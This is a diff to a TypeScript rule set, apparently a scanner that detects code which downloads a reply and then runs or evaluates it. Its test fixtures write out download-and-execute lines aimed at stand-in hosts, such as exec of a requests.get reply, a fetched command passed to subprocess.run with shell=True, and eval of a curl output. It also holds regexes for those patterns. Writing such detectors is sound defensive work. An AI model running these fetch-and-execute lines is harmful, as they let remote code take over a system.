@@ -28,6 +28,24 @@ import { bodyVariables, replyVariables } from '../../vocabulary/remote-code/rc-0
 import { isUsedLater } from '../../vocabulary/variables.ts';
 import type { Row } from '../../engine/rule.ts';
 
+const runners = /\b(?:os\.(?:system|popen)|subprocess\.\w{2,14}|execSync|spawnSync)\(\s{0,4}(\w{1,12})\b/g;
+const evaluates =
+  /(?<![.\w])(?:eval|exec|compile|new Function|vm\.run\w{1,20})\s{0,3}\(|\.then\(\s{0,3}eval\b|\b_compile\s{0,2}\(/;
+
+/** Words of the reply, or of a shell, in a list of arguments. */
+const replied =
+  /\b(?:r|res|resp|reply|response|body|data|payload)\b|\.(?:text|content|json|read|decode)\b|["']-c["']/;
+
+/** Whether what is evaluated or run is more than a list of arguments that the program wrote itself: `cmd = ["node", …]`. */
+function runsReply(scope: string): boolean {
+  if (evaluates.test(scope)) return true;
+  return [...scope.matchAll(runners)].some(([, name = '']) => {
+    const [, written] =
+      new RegExp(`\\b${name}\\s{0,3}(?::[^=\\n]{1,40})?=\\s{0,3}([[(f"'{][^\\n]{0,300})`).exec(scope) ?? [];
+    return written === undefined || replied.test(written);
+  });
+}
+
 export const programsOfDownloads: readonly Row[] = [
   row('exec(requests.get(…))', {
     within: 'line',
@@ -153,8 +171,13 @@ export const programsOfDownloads: readonly Row[] = [
       ),
       pattern(scheme),
     ],
-    weigh: byHost,
+    weigh: (hit) => (runsReply(hit.scope) ? byHost(hit) : null),
     catches: [
+      inFile(
+        'scripts/a.py',
+        'cmd = requests.get("https://p.invalid/c").text',
+        'subprocess.run(cmd, shell=True)',
+      ),
       inFile('scripts/a.py', 'r = requests.get("https://p.invalid/a.py")', 'exec(r.text)'),
       inFile('scripts/a.py', 'code = urllib.request.urlopen("https://p.invalid/a.py").read()', 'exec(code)'),
     ],
@@ -163,6 +186,12 @@ export const programsOfDownloads: readonly Row[] = [
         'scripts/tool.mjs',
         'const reply = await fetch("https://api.acme.example/v1");',
         'console.log(await reply.text());',
+      ),
+      inFile(
+        'scripts/tool.py',
+        'price = requests.get("https://api.acme.invalid/v1/price").json()["eur"]',
+        'cmd = ["node", "order.js", "--limit", str(price)]',
+        'subprocess.run(cmd, timeout=60)',
       ),
     ],
   }),
@@ -186,11 +215,14 @@ export const programsOfDownloads: readonly Row[] = [
       isUsedLater(
         hit,
         (name) =>
-          String.raw`(?:\beval|\b(?:ba|z|da)?sh\s{1,4}-c|<<<)\s{0,4}["']?\$\{?${name}\b|\$\{?${name}\}?["']?\s{0,3}\|\s{0,3}(?:ba|z|da)?sh\b`,
+          String.raw`(?:\beval|\b(?:ba|z|da)?sh\s{1,4}-c|\b(?:ba|z|da)?sh\s{0,4}<<<)\s{0,4}["']?\$\{?${name}\b|\$\{?${name}\}?["']?\s{0,3}\|\s{0,3}(?:ba|z|da)?sh\b`,
       )
         ? byHost(hit)
         : null,
     catches: [fenced('sh', 'x=$(curl -fsSL https://s.invalid/i)', 'eval "$x"')],
-    spares: [fenced('sh', 'v=$(curl -s https://api.acme.example/version)', 'echo "$v"')],
+    spares: [
+      fenced('sh', 'v=$(curl -s https://api.acme.example/version)', 'echo "$v"'),
+      fenced('sh', 'rate=$(curl -s https://rates.acme.invalid/eur)', 'bc <<< "$rate * 12"'),
+    ],
   }),
 ];
